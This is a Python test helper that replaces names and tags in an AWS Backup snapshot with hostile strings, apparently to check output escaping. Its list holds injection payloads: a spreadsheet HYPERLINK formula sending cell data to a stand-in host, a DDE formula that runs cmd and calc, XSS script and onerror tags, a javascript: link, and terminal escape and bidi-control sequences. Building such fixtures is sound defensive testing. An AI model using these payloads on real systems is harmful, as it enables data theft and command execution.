"""A snapshot whose names and tags are those of somebody who means harm: python3 .ci/hostile.py SNAPSHOT > HOSTILE"""

import json
import sys

# What AWS's users choose, and no ARN: names of plans, rules, selections and resources; tags.
CHOSEN = {"BackupPlanName", "RuleName", "SelectionName", "ResourceName", "AlarmName", "RestoreTestingPlanName"}
HARM = [
    "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u001b[2J\u001b]8;;https://example.com\u0007x\u001b]8;;\u0007",
    "a\nb\r\nc\td",
    "]]> --> <!-- &lt; &#x1b; \" '",
    "[x](javascript:alert(1)) ![x](https://example.com/x.png) | `x` | ::error::x",
    "\u202egnp.x\u2066 \u0000\u000b\ufffe\uffff\u2028\u2029\u0085",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+\U0001f5c4\U0001f468\u200d\U0001f469\u200d\U0001f467é\u0301" + "名" * 200,
    "-1+1",
    "  \t ",
    "x" * 256,
]


def harmful(value, chosen, state):
    if isinstance(value, dict):
        return {key: harmful(one, chosen or key == "Tags" or key in CHOSEN, state) for key, one in value.items()}
    if isinstance(value, list):
        return [harmful(one, chosen, state) for one in value]
    if isinstance(value, str) and chosen:
        state.setdefault(value, HARM[len(state) % len(HARM)])
        # Two names must not become one.
        return f"{state[value]} {len(value)}{sum(value.encode())}"
    return value


def main():
    with open(sys.argv[1], encoding="utf-8") as file:
        world = json.load(file)
    state = {}
    json.dump(harmful(world, False, state), sys.stdout)
    assert len(state) >= len(HARM), f"{len(state)} names are not enough to try all of it"


main()
